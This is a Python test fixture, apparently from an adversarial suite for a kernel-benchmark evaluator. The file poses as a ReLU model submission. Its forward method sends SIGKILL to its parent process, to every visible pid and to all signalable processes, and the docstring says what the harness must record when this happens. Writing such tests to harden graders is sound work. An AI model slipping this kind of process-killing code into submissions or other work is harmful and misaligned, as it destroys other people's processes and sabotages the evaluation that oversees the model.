"""Attack: kill whoever evaluates it (examples/problems/level1/19_ReLU.py).

At its first call: SIGKILL to its parent, to every pid it can see in /proc, and to -1 (every
process it may signal). Returns zeros if it is still alive.
kbv must conclude: a recorded outcome for this candidate (crashed or incorrect); every other
verdict of the run is evaluated and stored.
"""
import os
import signal
import sys

import torch
import torch.nn as nn

sys.path.insert(0, os.path.dirname(__file__))
from _attack_common import report  # noqa: E402


class ModelNew(nn.Module):
    def forward(self, x):
        me = os.getpid()
        killed = []
        targets = [os.getppid()] + [int(p) for p in os.listdir("/proc") if p.isdigit()]
        for pid in targets:
            if pid in (me, 0):
                continue
            try:
                os.kill(pid, signal.SIGKILL)
                killed.append(pid)
            except OSError:
                pass
        report("kill_parent", f"parent {os.getppid()}, killed {killed[:20]}")
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
        return torch.zeros_like(x)
